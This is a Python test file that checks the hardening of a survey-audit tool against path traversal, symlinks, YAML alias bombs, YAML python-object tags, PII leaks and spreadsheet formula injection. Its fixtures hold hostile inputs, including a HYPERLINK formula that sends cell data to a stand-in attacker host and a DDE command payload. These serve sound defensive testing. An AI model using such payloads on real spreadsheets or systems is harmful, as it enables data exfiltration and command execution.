"""Issue 15 (hardening): each attack that worked on the landed product, reproduced as a test.

Items 1-4 and 8-13 of the issue (5-7, the runner's, are tested in tests/test_runner.py).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from cxaudit.config import load_config
from cxaudit.errors import ConfigError

SECRET = "root:x:0:0:SECRET-CONTENT:/root:/bin/bash\n"
RESP = "response_id,date,nps\nr1,2025-01-05,9\nr2,2025-01-06,3\n"


def _yaml(file: str = "r.csv", extra: str = "") -> str:
    return (f'client:\n  name: Acme\n{extra}inputs:\n  responses:\n    file: "{file}"\n'
            "    columns: {response_id: response_id, date: date, nps: nps}\n")


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the client folder (the client folder is tmp_path/client)."""
    p = tmp_path / "secret.txt"
    p.write_text(SECRET, encoding="utf-8")
    return p


# --- item 1: every file a run reads resolves inside data/CLIENT/ ---------------------------------


@pytest.mark.parametrize("how", ["relative", "absolute", "symlink"])
def test_input_file_outside_client_folder_is_refused(tmp_path, make_client, outside, how):
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    if how == "relative":
        name = "../secret.txt"
    elif how == "absolute":
        name = str(outside)
    else:
        (folder / "link.csv").symlink_to(outside)
        name = "link.csv"
    (folder / "audit.yaml").write_text(_yaml(name, ""), encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config(folder / "audit.yaml")
    msg = str(info.value)
    assert info.value.key == "inputs.responses.file", msg
    assert "SECRET" not in msg and "\n" not in msg
    assert "outside" in msg or "symbolic link" in msg


def test_symlinked_folder_inside_client_is_refused(tmp_path, make_client, outside):
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    (folder / "sub").symlink_to(outside.parent, target_is_directory=True)
    (folder / "audit.yaml").write_text(_yaml("sub/secret.txt"), encoding="utf-8")
    with pytest.raises(ConfigError, match="inputs.responses.file"):
        load_config(folder / "audit.yaml")


def test_input_in_a_subfolder_of_the_client_is_fine(tmp_path, make_client):
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    (folder / "exports").mkdir()
    (folder / "exports" / "r.csv").write_text(RESP, encoding="utf-8")
    (folder / "audit.yaml").write_text(_yaml("exports/r.csv"), encoding="utf-8")
    cfg = load_config(folder / "audit.yaml")
    assert cfg.inputs["responses"].file == "exports/r.csv"


def test_logo_outside_client_folder_is_refused(tmp_path, make_client, outside):
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    (folder / "audit.yaml").write_text(
        _yaml(extra="  branding: {logo: ../secret.txt}\n"), encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config(folder / "audit.yaml")
    assert info.value.key == "client.branding.logo" and "SECRET" not in str(info.value)


def test_rules_file_outside_client_folder_is_refused(tmp_path, make_client, outside):
    from cxaudit.recommend import rulebook

    outside.write_text("rules: []\n", encoding="utf-8")
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml(extra="") + "recommendations: {rules_file: ../secret.txt}\n")
    with pytest.raises(ConfigError) as info:
        cfg = load_config(folder / "audit.yaml")
        rulebook(folder, cfg)
    assert info.value.key == "recommendations.rules_file"


@pytest.mark.parametrize("name", ["rules.yaml", "codeframe.yaml", "commentary.yaml"])
def test_symlinked_side_files_are_refused(tmp_path, make_client, outside, name):
    from cxaudit.recommend import labels_from_audit, load_commentary, rulebook
    from cxaudit.text import load_codeframe

    outside.write_text(VALID_SIDE[name], encoding="utf-8")  # valid content: only the link is wrong
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    (folder / name).symlink_to(outside)
    cfg = load_config(folder / "audit.yaml")
    with pytest.raises(ConfigError) as info:
        if name == "rules.yaml":
            rulebook(folder, cfg)
        elif name == "commentary.yaml":
            load_commentary(folder, "en")
        else:
            from cxaudit.paths import client_side_file

            load_codeframe(client_side_file(folder, name))
    assert name in str(info.value) and "SECRET" not in str(info.value)
    if name == "codeframe.yaml":  # the TO-BE labels read the client's codeframe too
        class _A:
            dir = folder
            config = cfg

            def has(self, t):
                return False
        with pytest.raises(ConfigError):
            labels_from_audit(_A(), "en")


VALID_SIDE = {
    "rules.yaml": "assumptions: {shift: 0.5}\n",
    "commentary.yaml": "executive_summary: SECRET text\n",
    "codeframe.yaml": "themes:\n  t1:\n    label: SECRET\n    polarity: complaint\n    keywords: {en: [late]}\n",
}
ALIASED_SIDE = {
    "rules.yaml": "assumptions: &a {shift: 0.5}\noverrides: {}\n",
    "commentary.yaml": "executive_summary: &a text\nappendix: *a\n",
    "codeframe.yaml": "themes:\n  t1:\n    label: Late\n    polarity: complaint\n    keywords: &k {en: [late]}\n"
                      "  t2:\n    label: Slow\n    keywords: *k\n",
}


def test_side_file_fixtures_are_valid_apart_from_the_attack(tmp_path):
    """The side-file fixtures load when placed normally, so the refusals below are about the attack."""
    from cxaudit.recommend import load_commentary, load_rules
    from cxaudit.text import load_codeframe

    for name, text in VALID_SIDE.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    load_rules(tmp_path / "rules.yaml")
    assert load_commentary(tmp_path, "en") == {"executive_summary": "SECRET text"}
    assert load_codeframe(tmp_path / "codeframe.yaml").themes[0].key == "t1"


# --- item 4: YAML with a size cap, aliases refused ---------------------------------------------

BOMB = """\
client: {name: Acme}
inputs: {responses: {file: r.csv}}
recommendations:
  rules:
    - &a {id: a, x: [x, x, x, x, x, x, x, x, x]}
    - &b {id: b, x: [*a, *a, *a, *a, *a, *a, *a, *a, *a]}
    - &c {id: c, x: [*b, *b, *b, *b, *b, *b, *b, *b, *b]}
    - &d {id: d, x: [*c, *c, *c, *c, *c, *c, *c, *c, *c]}
"""


def test_yaml_alias_bomb_is_refused_by_config(tmp_path, make_client):
    folder = make_client(tmp_path, {"r.csv": RESP}, BOMB)
    with pytest.raises(ConfigError) as info:  # (config accepts a list of mappings: only the aliases are wrong)
        load_config(folder / "audit.yaml")
    assert "anchors and aliases" in info.value.problem, info.value.problem


@pytest.mark.parametrize("name", ["rules.yaml", "codeframe.yaml", "commentary.yaml"])
def test_yaml_alias_refused_in_side_files(tmp_path, make_client, name):
    from cxaudit.recommend import load_commentary, rulebook
    from cxaudit.text import load_codeframe

    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    (folder / name).write_text(ALIASED_SIDE[name], encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        if name == "rules.yaml":
            rulebook(folder, load_config(folder / "audit.yaml"))
        elif name == "commentary.yaml":
            load_commentary(folder, "en")
        else:
            load_codeframe(folder / name)
    assert "anchors and aliases" in info.value.problem, info.value.problem


def test_yaml_size_cap(tmp_path, make_client):
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml() + "# " + "x" * 3_000_000 + "\n")
    with pytest.raises(ConfigError, match="too large"):
        load_config(folder / "audit.yaml")


def test_safe_yaml_still_reads_plain_yaml_and_refuses_duplicates():
    from cxaudit.safeyaml import load_yaml_text

    assert load_yaml_text("a: 1\nb: [x, y]\n", "f.yaml") == {"a": 1, "b": ["x", "y"]}
    with pytest.raises(ConfigError, match="appears twice"):
        load_yaml_text("a: 1\na: 2\n", "f.yaml")
    with pytest.raises(ConfigError, match="python"):
        load_yaml_text("a: !!python/object/apply:os.system ['true']\n", "f.yaml")


def test_no_module_loads_yaml_directly():
    """One place loads YAML: cxaudit.safeyaml (the i18n catalogs are package resources)."""
    import re

    pkg = Path(__file__).resolve().parents[1] / "cxaudit"
    offenders = []
    for py in pkg.rglob("*.py"):
        if py.name == "safeyaml.py":
            continue
        for i, line in enumerate(py.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"yaml\.(safe_load|load|full_load|unsafe_load)\(", line):
                offenders.append(f"{py.relative_to(pkg)}:{i}")
    assert offenders == [], offenders


if os.name != "posix":  # pragma: no cover
    pytest.skip("symlink tests need POSIX", allow_module_level=True)


# --- item 2: national ids, look-alikes, every displayed value -------------------------------------

# kind -> (text with the identifier, the identifier, a near miss that must stay untouched)
ID_CASES: list[tuple[str, str, str, str]] = [
    ("PESEL (PL)", "PESEL 44051401359", "44051401359", "PESEL 44051401358"),            # checksum off by one
    ("NIP (PL), plain", "NIP 1234563218", "1234563218", "NIP 1234563219"),
    ("NIP (PL), dashed", "NIP: 123-456-32-18", "123-456-32-18", "numer zamówienia 1234563218"),  # no 'NIP' near
    ("REGON (PL), 9 digits", "REGON 123456785", "123456785", "REGON 123456789"),
    ("REGON (PL), 14 digits", "regon 12345678512347", "12345678512347", "nr 12345678512348"),
    ("INN (RU), company", "ИНН 7707083893", "7707083893", "заказ 7707083893"),          # 10 digits need 'ИНН'
    ("INN (RU), person", "мой ИНН 500100732259", "500100732259", "счёт 500100732258"),
    # (a dashed near miss, 112-233-445 96, is still taken for a Polish mobile 112-233-445: [PHONE] 96)
    ("SNILS (RU), dashed", "СНИЛС 112-233-445 95", "112-233-445 95", "СНИЛС 11223344596"),
    ("SNILS (RU), plain", "snils 11223344595", "11223344595", "номер 11223344596"),
    ("RU passport", "паспорт 45 06 123456", "45 06 123456", "заказ 4506 123456"),       # no checksum: needs 'паспорт'
    ("RU passport, series/number", "серия 4506 номер 123456", "4506 номер 123456", "серия игр 4506"),
    ("UK NINO", "my NI number is AB 12 34 56 C", "AB 12 34 56 C", "ref QQ 12 34 56 C"),  # QQ is never issued
    ("UK NHS number", "NHS number 943 476 5919", "943 476 5919", "NHS 9434765918"),
    ("US SSN, dashed", "SSN 536-90-4399", "536-90-4399", "part 666-12-3456"),           # area 666 is never issued
    ("US SSN, plain", "SSN 536904399", "536904399", "order 536904399"),
    ("passport, 9 digits", "passport 123456789", "123456789", "parcel 123456789"),
    ("card, dots", "card 4111.1111.1111.1111", "4111.1111.1111.1111", "ref 4111.1111.1111.1112"),
    ("card, 4-6-5 (Amex)", "amex 3782 822463 10005", "3782 822463 10005", "amex 3782 822463 10006"),
    ("card, slashes", "4111/1111/1111/1111", "4111/1111/1111/1111", "2025/01/15/0001"),
    ("card, full-width digits", "карта ４１１１ １１１１ １１１１ １１１１", "４１１１ １１１１ １１１１ １１１１",
     "трек ４１１１ １１１１ １１１１ １１１２"),
    ("card, zero-width space inside", "card 4111\u200b1111 1111 1111", "4111\u200b1111 1111 1111",
     "card 4111\u200b1111 1111 1112"),
    ("IBAN, lower case", "iban gb82 west 1234 5698 7654 32", "gb82 west 1234 5698 7654 32",
     "iban gb82 west 1234 5698 7654 33"),
    ("e-mail, full-width @", "pisz: jan＠example.com", "jan＠example.com", "handle ＠example"),
    ("e-mail, full-width letters", "ｊａｎ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｊａｎ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｊａｎ ｅｘａｍｐｌｅ"),
]

# ordinary numbers that must survive redaction (amounts, dates, counts, ids of orders)
NOT_PII = [
    "Order 1234567890 shipped on 2025-01-15 at 10:30.",
    "Заказ № 552753 от 12.01.2025 на сумму 12 345,90 ₽.",
    "Kosztowało 1\u00a0234\u00a0567 zł (123\u00a0456\u00a0789 zł brutto).",
    "Invoice 2025/01/000123, 3 items, 42 orders, 17.5%.",
    "Customer number 123456789.",
    "Revenue 12,345,678.90 USD in 2024-2025.",
    "NPS +12.5 [8.1; 16.9], n = 1 204",
    "Trek 1234 5678 9012 3456 and 4111 1111 1111 1112",
    "Version 3.11.2, router 192.168.0.1, SKU 12-34-56.",
    "Paczka 00-950 Warszawa, 31.12.2025, godz. 14:45",
]


@pytest.mark.parametrize("kind,text,ident,near_miss", ID_CASES, ids=[c[0] for c in ID_CASES])
def test_identifiers_are_redacted_and_near_misses_are_not(kind, text, ident, near_miss):
    from cxaudit.text import redact_pii

    out = redact_pii(text)
    assert ident not in out and "[" in out, (kind, out)
    assert redact_pii(near_miss) == near_miss, (kind, redact_pii(near_miss))


def test_dashed_snils_is_one_id_not_a_phone_and_two_digits():
    from cxaudit.text import redact_pii

    assert redact_pii("СНИЛС 112-233-445 95") == "СНИЛС [ID]"


@pytest.mark.parametrize("text", NOT_PII)
def test_ordinary_numbers_are_not_redacted(text):
    from cxaudit.text import redact_pii

    assert redact_pii(text) == text


def test_id_label_is_localised():
    from cxaudit.text import pii_labels, redact_pii

    assert redact_pii("PESEL 44051401359", labels=pii_labels("pl")) == "PESEL [numer identyfikacyjny]"
    assert pii_labels("ru")["id"] == "[номер документа]"


def test_segment_values_and_labels_are_redacted_in_tables():
    """A region column holding an e-mail and a phone: the scorecard-style table must not show them."""
    import pandas as pd

    from cxaudit.show import Col, table_html

    df = pd.DataFrame({"group": ["anna@example.com", "+48 601 234 567", "North"], "n": [40, 35, 50]})
    html = table_html(df, [Col("group", "quality.col_group"), Col("n", "metrics.col_n", "int")], "en")
    assert "anna@example.com" not in html and "601 234 567" not in html
    assert "[EMAIL]" in html and "[PHONE]" in html and "North" in html
    # a header taken from the data (a segment name) too
    html = table_html(df, [Col("n", "PESEL 44051401359", "int")], "en")
    assert "44051401359" not in html


def test_finding_titles_are_redacted_when_saved(tmp_path):
    from cxaudit.findings import Finding, FindingSet, read_findings

    fs = FindingSet(tmp_path, "02_cx_metrics")
    fs.add(Finding(id="cx.seg", section="cx_metrics", title="NPS in a@b.pl is low", metric="nps", value=-5.0, n=40))
    fs.save()
    assert read_findings(tmp_path)[0].title == "NPS in [EMAIL] is low"


def test_figure_texts_are_redacted_before_rendering():
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from cxaudit.figdisplay import figure_png, redact_figure_text

    fig, ax = plt.subplots()
    ax.barh(["anna@example.com", "North"], [1, 2])
    ax.set_title("Region 601 234 567")
    fig.canvas.draw()
    assert figure_png(fig)  # a base64 PNG
    texts = [t.get_text() for t in fig.findobj(matplotlib.text.Text)]
    assert "Region [PHONE]" in texts and "[EMAIL]" in texts and "anna@example.com" not in texts
    assert redact_figure_text(fig) == 0  # nothing left
    plt.close(fig)


# --- item 13: charts with MPLBACKEND=Agg -----------------------------------------------------------


def _figure_notebook(install: bool):
    import nbformat

    cells = ["import matplotlib.pyplot as plt\nfrom IPython.display import display"]
    if install:
        cells.append("from cxaudit.figdisplay import install\ninstall()")
    cells.append("fig, ax = plt.subplots()\nax.plot([1, 2], [3, 4])\nplt.close(fig)\ndisplay(fig)")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


@pytest.mark.slow
def test_agg_backend_in_the_environment_still_gives_png_figures(monkeypatch):
    from nbclient import NotebookClient

    from cxaudit.figdisplay import lost_figures

    monkeypatch.setenv("MPLBACKEND", "Agg")
    bare = _figure_notebook(install=False)
    NotebookClient(bare, timeout=120, kernel_name="python3").execute()
    assert lost_figures(bare) == [1]  # the failure the issue reports: text only
    fixed = _figure_notebook(install=True)
    NotebookClient(fixed, timeout=120, kernel_name="python3").execute()
    outs = fixed.cells[-1].outputs
    assert lost_figures(fixed) == [] and any("image/png" in o.get("data", {}) for o in outs)


def test_report_refuses_a_figure_without_its_image(tmp_path):
    import nbformat

    from cxaudit.errors import CxauditError
    from cxaudit.report import merge_notebooks

    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(fig)")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/plain": "<Figure size 825x396 with 1 Axes>"})]
    nb.cells = [cell]
    path = tmp_path / "02_cx_metrics.ipynb"
    nbformat.write(nb, str(path))
    with pytest.raises(CxauditError, match="02_cx_metrics.ipynb: 1 figure"):
        merge_notebooks([path])


# --- item 3: formula injection in exported cells --------------------------------------------------

INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]


def _frame():
    import pandas as pd

    return pd.DataFrame({
        "label": [*INJECTED, "Kurier", "-12.5"],
        "value": [-3.5, -1.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, -7.25, -12.5],
        "n": list(range(-5, 5)),
    })


def test_csv_cells_cannot_start_a_formula_and_numbers_stay_numbers(tmp_path):
    import csv

    import pandas as pd

    from cxaudit.export import write_csv

    path = write_csv(_frame(), tmp_path / "t.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    labels = [r[0] for r in rows[1:]]
    for raw, cell in zip(INJECTED, labels, strict=False):
        assert cell == "'" + raw, (raw, cell)
    assert labels[-2:] == ["Kurier", "-12.5"]  # text and a plain negative number untouched
    back = pd.read_csv(path)
    assert back["value"].tolist() == _frame()["value"].tolist() and back["n"].tolist() == list(range(-5, 5))


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    import openpyxl

    from cxaudit.export import write_xlsx

    path = write_xlsx(tmp_path / "t.xlsx", {"Touchpoints: =bad/[1]": _frame(), "=x": _frame().head(1)})
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Touchpoints_ =bad__1_", "=x"]
    ws = wb.worksheets[0]
    for row in ws.iter_rows(min_row=2):
        assert row[0].data_type == "s", row[0].value
        assert not str(row[0].value).startswith(("=", "+", "@")), row[0].value
        assert isinstance(row[1].value, float | int) and isinstance(row[2].value, int)
    assert ws["A2"].value == "'" + INJECTED[0] and ws["B2"].value == -3.5 and ws["C2"].value == -5
    assert ws["A11"].value == "-12.5"
    # the argument order another module uses works too
    write_xlsx({"s": _frame()}, tmp_path / "u.xlsx")
    assert openpyxl.load_workbook(tmp_path / "u.xlsx")["s"]["A2"].value == "'" + INJECTED[0]


def test_index_and_headers_are_escaped_too(tmp_path):
    import pandas as pd

    from cxaudit.export import write_csv

    df = pd.DataFrame({"=cmd()": [1]}, index=pd.Index(["=HYPERLINK(1)"], name="touchpoint"))
    text = write_csv(df, tmp_path / "i.csv", index=True).read_text(encoding="utf-8")
    assert text.splitlines() == ["touchpoint,'=cmd()", "'=HYPERLINK(1),1"]


def test_every_csv_and_xlsx_writer_goes_through_export():
    """No module or notebook of the package writes CSV/XLSX with pandas directly (demo.py writes the
    synthetic *input* files, which are data, not exported artifacts)."""
    import re

    pkg = Path(__file__).resolve().parents[1] / "cxaudit"
    offenders = []
    for f in [*pkg.rglob("*.py"), *pkg.rglob("*.ipynb")]:
        # tables_export.py: its ExcelWriter branch runs only when cxaudit.export cannot be imported
        if f.name in ("export.py", "demo.py", "tables_export.py"):
            continue
        for i, line in enumerate(f.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(", line):
                offenders.append(f"{f.relative_to(pkg)}:{i}")
    assert offenders == [], offenders


# --- items 10 and 11: `cxaudit new` and `cxaudit validate` -------------------------------------------


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("CXAUDIT_HOME", str(tmp_path / "home"))
    (tmp_path / "home" / "data").mkdir(parents=True)
    return tmp_path / "home"


def _client(home: Path, name: str = "acme", extra: str = "") -> Path:
    folder = home / "data" / name
    folder.mkdir(parents=True)
    (folder / "r.csv").write_text(RESP, encoding="utf-8")
    (folder / "audit.yaml").write_text(_yaml(extra=extra), encoding="utf-8")
    return folder


@pytest.mark.parametrize("name", ['Acme "Best" Co', "O'Brien & Sons: 100% \\ ok", "Zażółć #1 — «Лучшие»"])
def test_new_writes_valid_yaml_for_any_name(home, name):
    from click.testing import CliRunner

    from cxaudit.cli import main
    from cxaudit.safeyaml import load_yaml

    res = CliRunner().invoke(main, ["new", "acme", "--name", name])
    assert res.exit_code == 0, res.output
    data = load_yaml(home / "data" / "acme" / "audit.yaml")
    assert data["client"]["name"] == name and data["min_base"] == 30


def test_new_refuses_a_name_that_could_inject_keys(home):
    from click.testing import CliRunner

    from cxaudit.cli import main

    res = CliRunner().invoke(main, ["new", "acme", "--name", 'Acme"\nmin_base: 1\n#'])
    assert res.exit_code == 2 and "one line" in res.output
    assert not (home / "data" / "acme" / "audit.yaml").exists()


BAD_SIDE = {
    "rules.yaml": ("rules:\n  - id: fix_x\n    effort: huge\n", "rules.yaml"),
    "codeframe.yaml": ("themes:\n  t1:\n    polarity: angry\n    keywords: {en: [late]}\n", "codeframe.yaml"),
    "commentary.yaml": ("executive_summary: {de: Text}\n", "commentary.yaml"),
}


@pytest.mark.parametrize("name", list(BAD_SIDE))
def test_validate_checks_side_files_up_front(home, name):
    from click.testing import CliRunner

    from cxaudit.cli import main

    folder = _client(home)
    res = CliRunner().invoke(main, ["validate", "acme"])
    assert res.exit_code == 0, res.output
    text, shown = BAD_SIDE[name]
    (folder / name).write_text(text, encoding="utf-8")
    res = CliRunner().invoke(main, ["validate", "acme"])
    assert res.exit_code == 2, res.output
    assert shown in res.output and "Traceback" not in res.output


def test_validate_checks_inline_rules_of_audit_yaml(home):
    from click.testing import CliRunner

    from cxaudit.cli import main

    _client(home, extra="")
    folder = home / "data" / "acme"
    (folder / "audit.yaml").write_text(_yaml() + "recommendations:\n  rules: [{id: fix_x, effort: huge}]\n",
                                       encoding="utf-8")
    res = CliRunner().invoke(main, ["validate", "acme"])
    assert res.exit_code == 2, res.output
    assert "recommendations" in res.output


# --- item 8: one-line errors instead of tracebacks --------------------------------------------------


@pytest.mark.parametrize("enc", ["rot13", "base64", "no-such-codec"])
def test_encoding_that_is_not_a_text_encoding_is_a_config_error(home, enc):
    from click.testing import CliRunner

    from cxaudit.cli import main

    folder = _client(home)
    (folder / "audit.yaml").write_text(_yaml().replace('    file: "r.csv"\n', f'    file: "r.csv"\n    encoding: "{enc}"\n'),
                                       encoding="utf-8")
    res = CliRunner().invoke(main, ["validate", "acme"])
    assert res.exit_code == 2, res.output
    assert "inputs.responses.encoding" in res.output and "Traceback" not in res.output
    assert len(res.output.strip().splitlines()) == 1


def test_unwritable_reports_folder_is_a_one_line_error(home):
    """As root a read-only folder is still writable, so reports/ is made a plain file: the same
    OSError path (the runner cannot create its run folder)."""
    from click.testing import CliRunner

    from cxaudit.cli import main

    _client(home)
    (home / "reports").write_text("not a folder", encoding="utf-8")
    res = CliRunner().invoke(main, ["run", "acme", "--format", "html", "--jobs", "1"])
    assert res.exit_code == 1, (res.output, res.exception)
    assert res.output.startswith("cxaudit: error: ") and len(res.output.strip().splitlines()) == 1, res.output
    assert not isinstance(res.exception, OSError) or isinstance(res.exception, SystemExit)


# --- item 9: future-dated rows are excluded by default -----------------------------------------------


def test_future_dated_rows_are_excluded_by_default_with_their_rule(tmp_path, make_client):
    from cxaudit.audit import load_audit

    resp = "response_id,date,nps\nr1,2025-01-05,9\nr2,2099-06-01,3\nr3,2025-02-01,7\n"
    folder = make_client(tmp_path, {"r.csv": resp}, _yaml())
    audit = load_audit(folder)
    assert audit.responses["response_id"].tolist() == ["r1", "r3"]
    ex = audit.excluded()
    assert ex[["row", "rule", "excluded"]].values.tolist() == [[3, "future_date", True]]
    assert str(ex["value"].iloc[0]).startswith("2099-06-01 > ")
    assert audit.intake()["rows_in"].tolist() == [3]  # rows in = kept + excluded
    assert audit.responses["date"].max() < __import__("pandas").Timestamp("2026-01-01")


def test_only_future_dates_stop_the_run_instead_of_a_2099_period(tmp_path, make_client):
    from cxaudit.audit import load_audit
    from cxaudit.errors import CxauditError

    resp = "response_id,date,nps\nr1,2099-06-01,9\nr2,2099-06-01,3\n"
    folder = make_client(tmp_path, {"r.csv": resp}, _yaml())
    with pytest.raises(CxauditError, match="no row of the responses table was kept"):
        load_audit(folder)


def test_future_dates_can_still_be_only_flagged(tmp_path, make_client):
    from cxaudit.audit import load_audit

    resp = "response_id,date,nps\nr1,2025-01-05,9\nr2,2099-06-01,3\n"
    folder = make_client(tmp_path, {"r.csv": resp}, _yaml() + "quality: {exclude: [missing_required]}\n")
    audit = load_audit(folder)
    assert len(audit.responses) == 2 and audit.log["rule"].tolist() == ["future_date"]


# --- item 12: every file that shapes a run is in the input hashes (manifest and run id) -------------


def test_side_files_are_hashed_into_the_manifest(tmp_path, make_client):
    import hashlib

    from cxaudit.audit import load_audit

    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml(extra="  branding: {logo: logo.png}\n"))
    (folder / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\nfake")
    for name, text in VALID_SIDE.items():
        (folder / name).write_text(text, encoding="utf-8")
    hashes = load_audit(folder).input_hashes()
    assert set(hashes) >= {"audit.yaml", "responses", "rules.yaml", "codeframe.yaml", "commentary.yaml", "logo.png"}
    assert hashes["rules.yaml"] == hashlib.sha256((folder / "rules.yaml").read_bytes()).hexdigest()
    (folder / "rules.yaml").write_text("assumptions: {shift: 0.6}\n", encoding="utf-8")
    again = load_audit(folder).input_hashes()
    assert again["rules.yaml"] != hashes["rules.yaml"]
    assert {k: v for k, v in again.items() if k != "rules.yaml"} == {k: v for k, v in hashes.items() if k != "rules.yaml"}
    # the run id is a hash of these (cxaudit.runner): another rules.yaml, another run id
    import datetime as dt

    from cxaudit import runner

    now = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    assert runner._run_id(hashes, {}, now) != runner._run_id(again, {}, now)


def test_session_start_installs_the_figure_display(tmp_path, make_client, monkeypatch):
    import cxaudit.session as session

    calls = []
    monkeypatch.setattr(session, "install_figure_display", lambda *a, **k: calls.append(1) or False)
    folder = make_client(tmp_path, {"r.csv": RESP}, _yaml())
    session.start("02_cx_metrics", client=folder, run_dir=tmp_path / "run", lang="en")
    assert calls == [1]
